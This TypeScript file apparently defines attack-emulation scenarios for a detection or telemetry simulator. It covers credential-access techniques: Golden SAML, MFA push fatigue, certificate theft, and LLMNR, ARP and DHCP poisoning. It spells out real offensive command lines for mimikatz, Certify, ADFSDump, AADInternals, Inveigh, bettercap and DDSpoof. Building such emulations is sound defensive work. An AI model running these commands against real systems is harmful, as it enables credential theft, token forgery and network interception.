import { t, v } from "../dsl";

/** Credential access, continued: stores, Kerberos, certificates, adversary-in-the-middle. (continued) */
export const credentialAccess2B = [
  t(
    "T1606.002",
    "SAML tokens",
    "Golden SAML: AD FS token-signing certificate used to mint tokens (ADFSDump, AADInternals).",
    [
      v(
        "adfsdump",
        [
          {
            cmd: "cmd.exe /Q /c C:\\Windows\\Temp\\ADFSDump.exe 1> \\\\127.0.0.1\\ADMIN$\\__{{n}}.{{rand}} 2>&1",
            as: "c",
            host: "@server",
            parent: "@wmiprvse",
            user: "@admin",
          },
          { cmd: "C:\\Windows\\Temp\\ADFSDump.exe", parent: "c", host: "@server" },
        ],
        { shell: "none" },
      ),
      v(
        "aadinternals",
        [
          {
            ps: "Export-AADIntADFSSigningCertificate; Open-AADIntOffice365Portal -ImmutableID {{rand2}} -Issuer http://sts.{{dns}}/adfs/services/trust -PfxFileName .\\ADFSSigningCertificate.pfx",
          },
        ],
        { shell: "ps", elevated: true },
      ),
    ],
  ),
  t(
    "T1621",
    "MFA request generation",
    "Repeated sign-ins with a stolen password to trigger push fatigue; on premises, the federation server validates the password each time.",
    [
      // The attacker signs in from outside through AD FS (here the server) every half minute: each attempt is a
      // successful password check (a network logon of the user on the AD FS server) followed by a push the user
      // is meant to accept. Nothing runs on the user's workstation.
      v(
        "mfa-fatigue",
        [
          {
            by: "@system",
            then: [0, 1, 2, 3, 4, 5].flatMap((n) => [
              {
                id: `l${n}`,
                kind: "logon" as const,
                host: "@server",
                session: `mfa${n}`,
                user: "@user",
                logonType: 3 as const,
                authPackage: "Negotiate" as const,
                delayMs: n === 0 ? 0 : 30_000,
              },
              { id: `o${n}`, kind: "logoff" as const, host: "@server", session: `mfa${n}`, delayMs: 200 },
            ]),
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1649",
    "Authentication certificates",
    "Certificates requested or stolen with Certify/Certipy/certutil (ESC1 and friends).",
    [
      v("certify", [
        {
          cmd: "{{tools}}\\Certify.exe request /ca:{{dcfqdn}}\\{{domain}}-CA /template:VulnTemplate /altname:{{admin}}",
          net: [["@dc", 135]],
        },
      ]),
      v("certutil-export", ["certutil -store My", "certutil -exportPFX My {{rand2}} {{tmp}}\\user.pfx"]),
      v(
        "mimikatz-crypto",
        [
          '{{tools}}\\mimikatz.exe "crypto::capi" "crypto::certificates /systemstore:local_machine /store:my /export" exit',
        ],
        { elevated: true },
      ),
    ],
  ),
  t("T1557", "Adversary-in-the-middle", "Inveigh/Responder-style poisoning on a workstation.", [
    v(
      "inveigh",
      [{ ps: "Invoke-Inveigh -ConsoleOutput Y -NBNS Y -mDNS Y -HTTPS Y -Proxy Y", net: [["@dc", 445]] }],
      { shell: "ps", elevated: true },
    ),
  ]),
  t(
    "T1557.001",
    "LLMNR/NBT-NS poisoning and SMB relay",
    "Inveigh, Responder for Windows or ntlmrelayx capturing hashes.",
    [
      v(
        "inveigh",
        [
          {
            ps: "Import-Module .\\Inveigh.ps1; Invoke-Inveigh -LLMNR Y -NBNS Y -ConsoleOutput Y -FileOutput Y",
          },
        ],
        { shell: "ps", elevated: true },
      ),
      v("inveigh-exe", ["{{tools}}\\Inveigh.exe -LLMNR Y -NBNS Y -FileOutput Y"], { elevated: true }),
    ],
  ),
  t("T1557.002", "ARP cache poisoning", "An ARP spoofing tool run on the host (arpspoof/Bettercap).", [
    v(
      "bettercap",
      [
        {
          cmd: '{{tools}}\\bettercap.exe -eval "set arp.spoof.targets {{srvip}}; arp.spoof on; net.sniff on"',
          loads: ["C:\\Windows\\System32\\Npcap\\Packet.dll", "C:\\Windows\\System32\\Npcap\\wpcap.dll"],
        },
      ],
      { elevated: true },
    ),
    v("arp-static", ["arp -s {{srvip}} 00-15-5d-{{rand}}"], { elevated: true }),
  ]),
  t(
    "T1557.003",
    "DHCP spoofing",
    "A rogue DHCP server, or DHCPv6 spoofing that makes the attacker the IPv6 DNS server.",
    [
      v("rogue-dhcp", ["{{tools}}\\dhcpsrv.exe -runapp"], { elevated: true }),
      // DDSpoof: DHCP requests whose FQDN option makes the DHCP server (on the DC, with its machine account)
      // register an arbitrary record in ADIDNS, here a marshalled-SPN name later used for Kerberos coercion.
      v(
        "ddspoof-dns-update",
        [
          {
            cmd: "python.exe ddspoof.py -i Ethernet0",
            image: "C:\\Program Files\\Python311\\python.exe",
            cwd: "{{tools}}\\DDSpoof",
            loads: ["C:\\Windows\\System32\\Npcap\\wpcap.dll"],
            then: [
              {
                id: "record",
                kind: "directory.change",
                host: "@dc",
                proc: "@dns",
                operation: "create",
                object:
                  "DC={{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA,DC={{dns}},CN=MicrosoftDNS,DC=DomainDnsZones,{{domaindn}}",
                objectClass: "dnsNode",
                delayMs: 1500,
              },
            ],
          },
        ],
        { elevated: true },
      ),
      // mitm6-style from Windows: Inveigh answers DHCPv6 solicits and then spoofs DNS.
      v(
        "inveigh-dhcpv6",
        [
          {
            cmd: "{{tools}}\\Inveigh.exe -DHCPv6 Y -DNS Y -DNSTTL 60 -LLMNR N -NBNS N -FileOutput Y",
            keep: false,
          },
        ],
        { elevated: true },
      ),
    ],
  ),
];
